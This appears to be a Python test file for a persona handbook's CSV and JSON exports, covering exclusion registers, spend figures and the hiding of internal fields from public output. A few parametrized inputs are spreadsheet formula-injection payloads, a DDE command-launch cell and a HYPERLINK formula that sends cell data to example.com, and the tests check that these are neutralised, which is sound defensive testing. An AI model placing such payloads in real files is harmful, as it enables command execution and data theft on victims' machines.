import csv
import io
import json

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.handbook.support import ACTIVE as CURRENT
from tests.handbook.support import DRAFT, NEGATIVE, TODAY, load, persona
from tests.handbook.views.given import economics, handbook, negative, selection

from handbook.display.exports import EXCLUSIONS_URI, PERSONAS_URI, SHORT_URI, files, sheet_text, sheet_uri, table
from handbook.display.values import fields
from handbook.personas.catalog import Catalog
from handbook.views import exclusions

GBP = "baseline: {currency: GBP}"
BOM = "\ufeff"
steady = settings(derandomize=True, max_examples=300, deadline=None, database=None)
# What a spreadsheet takes for the beginning of a formula, or for something else than text.
ACTIVE = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"


def parsed(text: str) -> list[list[str]]:
    """The cells as a spreadsheet reads them."""
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), strict=True))


def held(catalog: Catalog) -> dict[str, str]:
    """Every file by its name."""

    def address(page: str) -> str:
        return page.replace(".md", "/")

    sheets = {
        sheet_uri(record.path): sheet_text(record, catalog, address, fields(record, public=catalog.is_public))
        for record in catalog.records
    }
    return dict(files(catalog, address)) | sheets


def register(catalog: Catalog) -> list[dict[str, str]]:
    """The lines of the exclusions' file by the names of its columns."""
    found = held(catalog)
    header, *rows = parsed(found[EXCLUSIONS_URI])
    return [dict(zip(header, row, strict=True)) for row in rows]


def excluded(*rules: str) -> str:
    return negative(f"exclusions: [{', '.join(rules)}]")


RULE = "{where: Mail, rule: Skis}"
WHOLE = (
    "{where: 'Search, all', kind: keyword, rule: 'The word \"skis\"', owner: Marketing,"
    f" since: 2026-01-31, expires: {TODAY}}}"
)


def test_every_exclusion_is_a_line_with_all_that_its_file_says() -> None:
    catalog = handbook(GBP, the_skier=excluded(WHOLE, RULE), ben="", cy=negative("why: W"))
    assert register(catalog) == [
        {
            "persona": "The Skier",
            "id": "the-skier",
            "where": "Search, all",
            "kind": "Search term",
            "rule": 'The word "skis"',
            "owner": "Marketing",
            "since": "2026-01-31",
            "expires": "2026-11-23",
            "expired": "no",
            "reason": "",
            "instead": "",
            "waste a year (once per persona)": "",
            "currency": "",
            "waste rests on": "",
        },
        {
            "persona": "The Skier",
            "id": "the-skier",
            "where": "Mail",
            "kind": "",
            "rule": "Skis",
            "owner": "",
            "since": "",
            "expires": "",
            "expired": "",
            "reason": "",
            "instead": "",
            "waste a year (once per persona)": "",
            "currency": "",
            "waste rests on": "",
        },
    ]


def test_what_ended_before_today_has_expired() -> None:
    rules = [f"{{where: W, rule: R, expires: 2026-11-{day}}}" for day in (22, 23, 24)]
    assert [line["expired"] for line in register(handbook(ann=excluded(*rules)))] == ["yes", "no", "no"]


@pytest.mark.parametrize(
    ("figures", "waste", "currency", "basis"),
    [
        (economics(revenue="0", new_customers="4", acquisition_cost="25"), "100.00", "GBP", "source S1"),
        (
            economics(revenue="0", new_customers="4", acquisition_cost="25", source="[S1, S2]"),
            "100.00",
            "GBP",
            "source S1, S2",
        ),
        (
            economics(revenue="0", new_customers="4", acquisition_cost="25", estimate="true"),
            "100.00",
            "GBP",
            "estimate, after S1",
        ),
        (
            economics(revenue="0", new_customers="4", acquisition_cost="25", source=None),
            "100.00",
            "GBP",
            "estimate, no source given",
        ),
        (
            economics(revenue="0", new_customers="5", acquisition_cost="0.125", period="month"),
            "7.50",
            "GBP",
            "source S1",
        ),
        (economics(revenue="0", new_customers="1", acquisition_cost="0.125"), "0.13", "GBP", "source S1"),
        (
            economics(revenue="0", customers="400000", new_customers="400000", acquisition_cost="25"),
            "10000000.00",
            "GBP",
            "source S1",
        ),
        (economics(new_customers="0", acquisition_cost=None), "0.00", "GBP", "source S1"),
        (economics(acquisition_cost="25", revenue="0", new_customers=None), "", "", ""),
        (economics(acquisition_cost=None, new_customers="4"), "", "", ""),
        ("", "", "", ""),
    ],
)
def test_the_waste_is_a_plain_number_with_its_currency_and_what_it_rests_on(
    figures: str, waste: str, currency: str, basis: str
) -> None:
    (line,) = register(handbook(GBP, ann=excluded(RULE) + figures))
    assert list(line.values())[-3:] == [waste, currency, basis]


def test_whoever_wastes_money_and_is_excluded_nowhere_has_a_line_that_says_so() -> None:
    spent = economics(revenue="0", new_customers="4", acquisition_cost="25")
    repaid = economics(new_customers="4", acquisition_cost="25", churn_rate="10 %")
    catalog = handbook(GBP, ann=negative("why: W") + spent, ben=negative("why: W") + repaid, cy=spent)
    (line,) = register(catalog)
    assert (line["persona"], line["rule"], line["waste rests on"]) == ("Ann", "nobody excludes them", "source S1")
    assert line["waste a year (once per persona)"] == "100.00"


def test_the_sum_of_the_column_is_the_sum_on_the_page() -> None:
    spent = economics(revenue="0", new_customers="4", acquisition_cost="25")
    catalog = handbook(GBP, ann=excluded(RULE, RULE, RULE) + spent, ben=excluded(RULE, RULE) + spent)
    wastes = [line["waste a year (once per persona)"] for line in register(catalog)]
    assert wastes == ["100.00", "", "", "100.00", ""]
    assert exclusions.build(selection(), catalog).waste == sum(float(waste or 0) for waste in wastes)


def test_retired_personas_are_left_out_and_a_file_without_lines_is_not_written() -> None:
    retired = "status: retired\nretired_on: 2026-01-01\nretired_reason: Gone.\n"
    catalog = handbook(ann=excluded(RULE) + retired, ben=excluded(RULE))
    assert [line["id"] for line in register(catalog)] == ["ben"]
    assert EXCLUSIONS_URI not in held(handbook(ann=excluded(RULE) + retired))
    assert EXCLUSIONS_URI not in held(handbook(ann="", ben=negative("why: W")))


def test_the_public_gets_no_register() -> None:
    assert len(register(handbook("audience: internal", ann=excluded(RULE)).shown(drafts=True))) == 1
    assert list(held(handbook("audience: public", ann=excluded(RULE)).shown(drafts=True))) == [PERSONAS_URI]


def sheet_of(catalog: Catalog, uri: str) -> dict[str, dict[str, list[str]]]:
    """One persona's file: the values of each field, by section and path."""
    sections = json.loads(held(catalog)[uri])["sections"]
    return {one["title"]: {line["path"]: line["values"] for line in one["fields"]} for one in sections}


def test_every_persona_is_listed_with_where_its_page_and_its_sheet_are() -> None:
    retired = "status: retired\nretired_on: 2026-01-01\nretired_reason: Gone."
    catalog = handbook(
        the_skier=negative("why: W", "looks_like: [bo]"),
        ann=f"role_label: The walker\nsegment: Walkers\nrelated: {{id: bo, how: buys-for}}\n{retired}",
        bo="",
    )
    entries = json.loads(held(catalog)[PERSONAS_URI])
    assert entries == [
        {
            "id": "ann",
            "name": "Ann",
            "role": "The walker",
            "type": "customer",
            "segment": "Walkers",
            "status": "retired",
            "page": "personas/ann/",
            "sheet": "personas/ann.json",
            "related": [{"id": "bo", "name": "Bo", "how": "Buys for"}],
            "mistaken_for": [],
        },
        {
            "id": "bo",
            "name": "Bo",
            "role": "",
            "type": "customer",
            "segment": "",
            "status": "draft",
            "page": "personas/bo/",
            "sheet": "personas/bo.json",
            "related": [],
            "mistaken_for": ["the-skier"],
        },
        {
            "id": "the-skier",
            "name": "The Skier",
            "role": "",
            "type": "negative",
            "segment": "",
            "status": "draft",
            "page": "personas/negative/the-skier/",
            "sheet": "personas/negative/the-skier.json",
            "related": [],
            "mistaken_for": ["bo"],
        },
    ]
    for entry in entries:
        own = json.loads(held(catalog)[entry["sheet"]])
        assert {key: own[key] for key in entry} == entry
        assert set(own) == {*entry, "sources", "sections", "brief"}


def test_a_persona_s_file_holds_its_sheet_as_text() -> None:
    catalog = handbook(GBP, ann="tech_comfort: 4\nbrands: ['<b>Tarn</b>', 'Ängström']\n" + economics())
    found = sheet_of(catalog, "personas/ann.json")
    assert found["In short"] == {"summary": ["S."]}
    assert found["How to reach them"] == {"tech_comfort": ["4 of 5"], "brands": ["<b>Tarn</b>", "Ängström"]}
    assert found["Money"]["money.value"] == ["+£100"]
    assert "<" not in "".join(held(catalog).values())  # nobody takes it for a page


def test_the_public_s_files_hold_nothing_internal_and_no_negative_persona() -> None:
    declared = "fields: [{key: tier, description: Theirs., internal: true}]"
    fields = (
        "status: active\nowner: Insight\nlast_reviewed: 2026-09-14\ngoals: {personal: Walk}\nchallenges: [Rain]\n"
        "tier: Golden\nimplications: {sales: Haggle}\nshare_of_profit: 9\nassumptions: Guesses\ncustom: {Own: Kept}\n"
        "related: [the-skier]\nbrands: Tarn\n"
    )
    personas = {
        "personas/ann.md": persona(fields + economics(), base=f"{DRAFT}evidence: {{basis: mixed, sources: "
                                   "[{id: S1, title: Ledger}]}\n"),
        "personas/negative/the-skier.md": persona(base=NEGATIVE.replace("Ann", "The Skier")),
    }  # fmt: skip
    inside = held(load(personas, f"{declared}\n{GBP}")[0].shown(drafts=False))
    outside = held(load(personas, f"audience: public\n{declared}\n{GBP}")[0].shown(drafts=False))
    for secret in ("Golden", "Haggle", "9%", "Guesses", "£", "The Skier", "the-skier", "We sell skis"):
        assert secret in "".join(inside.values()), secret
        assert secret not in "".join(outside.values()), secret
    assert list(outside) == [PERSONAS_URI, "personas/ann.json"]
    assert "Tarn" in outside["personas/ann.json"]


def test_a_file_is_what_the_standard_says_with_a_mark_that_spreadsheets_need() -> None:
    text = table([["a", "b, c", 'd "e"'], ["", "f\ng", "h\r\ni"], ["Ünïcode", " j ", "k"]])
    assert text == '\ufeffa,"b, c","d ""e"""\r\n,"f\ng","h\r\ni"\r\nÜnïcode, j ,k\r\n'


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "\uff1dSUM(A1)",
        '=HYPERLINK("https://example.com?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        '","=1',
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(cell: str) -> None:
    ((found, beside),) = parsed(table([[cell, "x"]]))
    assert found == (f"'{cell}" if cell[0] in ACTIVE else cell)
    assert beside == "x"


@pytest.mark.parametrize("cell", ["", "a=1", "1-2", "'=1", " =1", "£4", "2026-01-31", "100.00"])
def test_a_harmless_cell_stays_as_it_is(cell: str) -> None:
    assert parsed(table([[cell, "x"]])) == [[cell, "x"]]


CELLS = st.lists(st.sampled_from([*ACTIVE, '"', ",", ";", "'", " ", "\r\n", BOM]) | st.text(max_size=4), max_size=6)


@steady
@given(rows=st.lists(st.lists(CELLS.map("".join), min_size=2, max_size=4), min_size=1, max_size=4))
@example(rows=[["=", "+"], ["-", "@"]])
@example(rows=[['"=', "\0"], [",", "\r"]])
@example(rows=[[BOM, BOM + "=1"]])
def test_no_cell_begins_a_formula_and_none_changes_otherwise(rows: list[list[str]]) -> None:
    found = parsed(table(rows))
    assert [[len(row) for row in rows]] == [[len(row) for row in found]]
    for cell, read in zip((one for row in rows for one in row), (one for row in found for one in row), strict=True):
        assert not read.startswith(tuple(ACTIVE))
        assert read == (f"'{cell}" if cell.startswith(tuple(ACTIVE)) else cell)


@pytest.mark.parametrize("field", ["where", "rule", "owner", "name"])
def test_nothing_that_a_writer_types_reaches_a_spreadsheet_as_a_formula(field: str) -> None:
    parts = {"where": "W", "rule": "R", "owner": "O"} | {field: '=1+1, "x"'}
    rule = ", ".join(f"{key}: '{value}'" for key, value in parts.items() if key != "name")
    catalog = handbook(ann=excluded(f"{{{rule}}}"))
    if field == "name":
        record = catalog.records[0]
        named = record.persona.model_copy(update={"name": parts["name"]})
        catalog = type(catalog)(
            (type(record)(record.id, named, record.document, record.prose),), catalog.company, TODAY
        )
    (line,) = register(catalog)
    assert '\'=1+1, "x"' in line.values()
    assert not [cell for cell in line.values() if cell.startswith("=")]


def test_a_line_brings_its_reasons_what_to_take_instead_and_its_review_along() -> None:
    short = (
        "- {line: Wines, reason: [misaligned, Age], instead: A shop, fairness: {reviewed_by: Legal, on: 2026-01-05}}"
    )
    catalog = load({"personas/ann.md": persona()}, short=short)[0]
    (row,) = register(catalog)
    assert (row["rule"], row["reason"], row["instead"]) == ("Wines", "Misaligned, Age", "A shop")
    (line,) = json.loads(held(catalog)[SHORT_URI])
    assert line["fairness"] == "Legal, 5 January 2026"


@pytest.mark.parametrize(
    ("fields_", "values"),
    [
        ("journey: [{stage: Compares, feeling: '-1, worried'}]", ["Compares, worried (\N{MINUS SIGN}1)"]),
        ("journey: [{stage: Buys, feeling: 2}]", ["Buys, Very good (+2)"]),
        (
            "budget: {label: Little, amount: 30, min: 20, max: 45, currency: EUR}",
            ["Little; \u20ac30 (\u20ac20\N{EN DASH}\u20ac45)"],
        ),
        ("occupation: {label: Smith, isco: 7221}", ["Smith (ISCO 7221)"]),
    ],
)
def test_a_sheet_says_all_of_a_value_without_brackets_in_brackets(fields_: str, values: list[str]) -> None:
    catalog, _, problems = load({"personas/ann.md": persona(fields_)})
    assert problems == []
    sections = json.loads(held(catalog)["personas/ann.json"])["sections"]
    path = fields_.partition(":")[0]
    assert [line["values"] for block in sections for line in block["fields"] if line["path"] == path] == [values]


@pytest.mark.parametrize(("audience", "sources"), [("internal", [["S1"], []]), ("public", None)])
def test_a_sheet_names_what_each_value_rests_on_but_not_to_the_public(
    audience: str, sources: list[list[str]] | None
) -> None:
    fields_ = (
        "journey: [{stage: Compares, source: S1}, {stage: Buys}]\n"
        "goals: {general: [{text: A dry tent, source: S1}, A map]}\nevidence: {sources: [{id: S1, title: T}]}"
    )
    catalog, _, problems = load({"personas/ann.md": persona(fields_)}, settings=f"audience: {audience}")
    assert [one for one in problems if one.is_error] == []
    sheet_ = json.loads(held(catalog.shown(drafts=True))["personas/ann.json"])
    lines = {line["path"]: line for block in sheet_["sections"] for line in block["fields"]}
    assert lines["goals.general"].get("sources") == sources
    if audience == "internal":
        assert lines["journey"].get("sources") == sources


def test_a_persona_s_file_names_its_sources_in_the_order_of_its_page_and_not_for_the_public() -> None:
    base = CURRENT.replace("[{id: S1, title: Interviews}]", "[{id: S9, title: Talks}, {id: S1, title: Orders}]")
    file = {"personas/ann.md": persona(base=base)}
    own = json.loads(held(load(file)[0])["personas/ann.json"])
    assert own["sources"] == [{"id": "S9", "title": "Talks"}, {"id": "S1", "title": "Orders"}]
    assert "sources" not in json.loads(held(load(file, "audience: public")[0])["personas/ann.json"])
